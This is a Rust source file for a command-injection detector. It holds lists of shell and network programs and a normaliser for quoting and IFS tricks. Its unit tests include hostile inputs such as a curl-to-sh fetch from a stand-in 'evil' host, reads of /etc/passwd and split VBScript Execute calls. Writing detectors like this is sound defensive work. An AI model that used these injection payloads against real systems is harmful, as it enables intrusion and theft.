//! OS command injection: a shell separator or substitution followed by a program a
//! shell would run.
//!
//! The value is first normalised the way a shell would read it for the tricks that
//! split command names (`c'a't`, `c\at`, `$@`, `${IFS}`), then scanned once for
//! separators (`;`, `|`, `||`, `&`, `&&`, newline) and substitutions (`` ` ``, `$(`,
//! `<(`) and the word that follows them. Common English words that are also
//! programs (`more`, `type`, `set`, `find`…) only count with shell-looking arguments.

use std::borrow::Cow;

use super::prefilter::ByteSet;
use super::{severity, Detector, Hit};

/// Programs whose name after a separator is an attack by itself.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "wget",
    "curl",
    "netcat",
    "ncat",
    "nc",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "systeminfo",
    "tasklist",
    "taskkill",
    "xterm",
    "telnet",
    "chmod",
    "chown",
    "crontab",
    "useradd",
    "usermod",
    "passwd",
    "base64",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "node",
    "lua",
    "id",
    "ls",
    "cat",
    "ping",
    "sleep",
    "echo",
    "rm",
    "mkfifo",
    "mknod",
    "nohup",
    "printenv",
    "env",
    "hostname",
    "netstat",
    "ps",
    "killall",
    "pkill",
    "traceroute",
    "tracert",
    "dig",
    "host",
    "busybox",
    "socat",
    "scp",
    "ssh",
    "ftp",
    "tftp",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "regsvr32",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "net",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    "sudo",
    "su",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "tee",
    "dd",
    "od",
    "xxd",
    "head",
    "tail",
    "uniq",
    "wc",
    "grep",
    "egrep",
    "fgrep",
    "tac",
    "nl",
    "rev",
    "strings",
    "ver",
    "vol",
    "dir",
    "expr",
    "eval",
    "exec",
    "sysctl",
    "lsof",
    "mount",
    "ifup",
    "route",
    "arp",
    "getent",
    "groups",
    "last",
    "w",
    "who",
    "uptime",
    "fetch",
    "lynx",
    "openssl",
];

/// Programs that are also everyday words: need a shell-looking argument.
const WEAK: &[&str] = &[
    "more", "less", "type", "set", "find", "sort", "kill", "time", "date", "test", "touch", "cp",
    "mv", "ln", "more.com", "start", "copy", "del", "echo",
];

fn hit(sev: u32, reason: &'static str) -> Option<Hit> {
    Some(Hit {
        detector: Detector::Cmdi,
        severity: sev,
        reason,
    })
}

/// Removes quoting and expansion tricks a shell would erase before running.
fn normalise(s: &str) -> Cow<'_, str> {
    // The expansions all start with `$`; most values have none, so skip the copies.
    let s: Cow<'_, str> = if s.contains('$') {
        Cow::Owned(
            s.replace("${IFS}", " ")
                .replace("$IFS$9", " ")
                .replace("$IFS", " ")
                .replace("$@", "")
                .replace("$*", ""),
        )
    } else {
        Cow::Borrowed(s)
    };
    // Nothing to join without a quote or a backslash: the value as it is (the
    // User-Agent of every browser has `;` and comes here).
    if !s.contains(['\'', '"', '\\']) {
        return s;
    }
    let mut out = String::with_capacity(s.len());
    let mut prev_word = false;
    for c in s.chars() {
        match c {
            // Quotes and backslashes inside a word join its pieces (`c'a't`).
            '\'' | '"' | '\\' if prev_word => {}
            _ => {
                prev_word = c.is_ascii_alphanumeric();
                out.push(c);
            }
        }
    }
    Cow::Owned(out)
}

/// Checks one decoded form of a value.
pub fn check(s: &str) -> Option<Hit> {
    check_set(s, &ByteSet::of(s.as_bytes()))
}

/// Separators and substitutions: a command needs one of these to start.
const TRIGGERS: ByteSet = ByteSet::from_bytes(b";|&`$\n\r<{");

/// [`check`] with the byte set of `s` already computed.
pub fn check_set(s: &str, set: &ByteSet) -> Option<Hit> {
    if set.has(b'"') && set.has(b'(') && (set.has(b'&') || set.has(b'+')) {
        if let Some(h) = split_script_call(s.as_bytes()) {
            return Some(h);
        }
    }
    if !set.intersects(&TRIGGERS) {
        return None;
    }
    let n = normalise(s);
    let b = n.as_bytes();
    let mut best: Option<Hit> = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let (sep_len, subst) = match c {
            b';' | b'\n' | b'\r' => (1, false),
            b'|' | b'&' => (if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false),
            b'`' => (1, true),
            b'$' if b.get(i + 1) == Some(&b'(') => (2, true),
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (2, true),
            b'{' => (1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        let h = after_separator(b, i + sep_len, c, subst, i == 0);
        if let Some(h) = h {
            if best.is_none_or(|x| h.severity > x.severity) {
                best = Some(h);
            }
            if h.severity >= severity::CRITICAL {
                return best;
            }
        }
        i += sep_len;
    }
    best
}

/// Functions of server-side script engines (VBScript/ASP, JScript, PHP) that run a
/// string as code or start a process.
const SCRIPT_EXEC: &[&[u8]] = &[
    b"execute(",
    b"executeglobal(",
    b"eval(",
    b"createobject(",
    b"assert(",
    b"shell_exec(",
    b"passthru(",
    b"system(",
];

/// `"Ex"&"e"&"cute("…`: a code-running function name split into string pieces
/// joined with `&` (VBScript) or `+` (JScript), so that no filter sees it whole.
/// The pieces are joined again (quote, operator, quote removed) and the result
/// searched for [`SCRIPT_EXEC`]; only a name that was actually split counts, so
/// prose and ordinary code that merely call `eval(` are left to other checks.
fn split_script_call(b: &[u8]) -> Option<Hit> {
    let mut joined: Vec<u8> = Vec::with_capacity(b.len());
    // Where each byte of `joined` sits relative to a removed join: a name only
    // counts if a join was removed inside it.
    let mut joins: Vec<usize> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'"' {
            let mut j = i + 1;
            while matches!(b.get(j), Some(b' ')) {
                j += 1;
            }
            if matches!(b.get(j), Some(b'&' | b'+')) {
                let mut k = j + 1;
                while matches!(b.get(k), Some(b' ')) {
                    k += 1;
                }
                if b.get(k) == Some(&b'"') {
                    joins.push(joined.len());
                    i = k + 1;
                    continue;
                }
            }
        }
        joined.push(b[i].to_ascii_lowercase());
        i += 1;
    }
    if joins.is_empty() {
        return None;
    }
    for name in SCRIPT_EXEC {
        let mut from = 0;
        while let Some(off) = memchr::memmem::find(&joined[from..], name) {
            let p = from + off;
            from = p + 1;
            let before_ok = p == 0 || !joined[p - 1].is_ascii_alphanumeric();
            // `joins` is ascending: the first join after `p` decides.
            let first_after = joins.partition_point(|&j| j <= p);
            let split = joins.get(first_after).is_some_and(|&j| j < p + name.len());
            if before_ok && split {
                return hit(severity::CRITICAL, "split-script-call");
            }
        }
    }
    None
}

fn after_separator(b: &[u8], mut j: usize, sep: u8, subst: bool, at_start: bool) -> Option<Hit> {
    // Blanks and openers before the program name, at most 16 of them (a run of
    // `{{{{…` must not be rescanned from every brace).
    let lead_limit = (j + 16).min(b.len());
    while j < lead_limit && matches!(b[j], b' ' | b'\t' | b'(' | b'{' | b'!') {
        j += 1;
    }
    // `/bin/cat`, `/usr/bin/id`, `C:\Windows\System32\cmd.exe`: keep the last segment.
    let ws = j;
    // Program paths are short; reading at most 256 bytes keeps a value made of
    // thousands of separators (`{{{{…`) linear.
    let word_limit = (ws + 256).min(b.len());
    while j < word_limit
        && !matches!(
            b[j],
            b' ' | b'\t'
                | b';'
                | b'|'
                | b'&'
                | b'`'
                | b')'
                | b'<'
                | b'>'
                | b'\n'
                | b'\r'
                | b','
                | b'}'
                // A form-encoded space that was never decoded (`|getent+hosts`):
                // no program name has a plus sign.
                | b'+'
        )
    {
        j += 1;
    }
    let word = &b[ws..j];
    let path_prefixed =
        word.starts_with(b"/bin/") || word.starts_with(b"/usr/") || word.starts_with(b"/sbin/");
    let last = word
        .rsplit(|&c| c == b'/' || c == b'\\')
        .next()
        .unwrap_or(word);
    if last.is_empty() || last.len() > 20 {
        return None;
    }
    let lw = last.to_ascii_lowercase();
    let rest = &b[j..];
    let arg_start = rest
        .iter()
        .position(|c| !matches!(c, b' ' | b'\t'))
        .unwrap_or(rest.len());
    let arg = &rest[arg_start..];
    let ends = arg.is_empty()
        || matches!(
            arg[0],
            b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'\r' | b'}' | b'<' | b'>'
        );
    let shellish_arg = arg.first().is_some_and(|c| {
        matches!(
            c,
            b'-' | b'/' | b'$' | b'.' | b'~' | b'\\' | b'>' | b'<' | b'|'
        )
    }) || arg.first().is_some_and(u8::is_ascii_digit)
        || arg[..arg.len().min(64)].windows(2).any(|w| w == b":\\");
    if sep == b'{' {
        // Brace expansion `{cat,/etc/passwd}` runs with no spaces at all.
        let brace = b.get(j) == Some(&b',');
        if brace && STRONG.iter().any(|s| lw == s.as_bytes()) {
            return hit(severity::CRITICAL, "brace-expansion");
        }
        return None;
    }
    let strong = STRONG.iter().any(|s| lw == s.as_bytes());
    let weak = WEAK.iter().any(|s| lw == s.as_bytes());
    if strong {
        // A lone `& id` / `| w` at the end of prose is rare but possible: words of
        // one or two letters need an argument or a clean end to count.
        if last.len() <= 2 && !(ends || shellish_arg) {
            return None;
        }
        if sep == b'&' && !(ends || shellish_arg) && !subst {
            return hit(severity::WARNING, "separator-command");
        }
        return hit(
            severity::CRITICAL,
            if subst {
                "command-substitution"
            } else {
                "separator-command"
            },
        );
    }
    if path_prefixed {
        return hit(severity::CRITICAL, "separator-command");
    }
    // `| set /a 1*2`, `; sort -r`: an everyday word used as a program with a
    // one- or two-letter switch is the shell, not prose.
    let switch = matches!(arg.first(), Some(b'-' | b'/')) && {
        let letters = arg[1..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        (1..=2).contains(&letters)
            && arg
                .get(1 + letters)
                .is_none_or(|c| !c.is_ascii_alphanumeric() && *c != b'/')
    };
    if weak && switch && sep != b'&' {
        return hit(severity::CRITICAL, "separator-command");
    }
    if weak && (shellish_arg || ends) && !at_start {
        return hit(severity::WARNING, "separator-command");
    }
    if subst && b[ws..].contains(&b')') && sep == b'$' {
        return hit(severity::WARNING, "command-substitution");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sev(s: &str) -> u32 {
        check(s).map_or(0, |h| h.severity)
    }

    #[test]
    fn attacks() {
        for s in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "`id`",
            "$(curl http://evil/x.sh|sh)",
            "1;c'a't /etc/passwd",
            "x;c\\at${IFS}/etc/passwd",
            ";/bin/ls -la",
            "| dir c:\\",
            "{cat,/etc/passwd}",
            "foo\nping -c 3 evil.com",
            "& ping -n 3 127.0.0.1 &",
            "| set /a 3482*7301",
            "|getent+hosts+somehost.example.&",
            "; sort -r /etc/hosts",
            "Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\"\")\")",
            "x=\"ev\" + \"al(\"+payload+\")\"",
            "\"Create\"&\"Object(\"\"WScript.Shell\"\")\"",
        ] {
            assert_eq!(sev(s), severity::CRITICAL, "{s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "Tom & Jerry",
            "salt & pepper; more later",
            "R&D department",
            "price: $5 (approx)",
            "fish | chips",
            "see you; id est, tomorrow",
            "a;b;c",
            "Black & white & more",
            "fish | more/less the same",
            "a; set /asap",
            "search terms: find+me",
            "He said \"hello\" & \"goodbye\" (twice)",
            "call eval(x) in \"strict\" + \"loose\" modes",
        ] {
            assert!(sev(s) < severity::CRITICAL, "{s}");
        }
    }
}
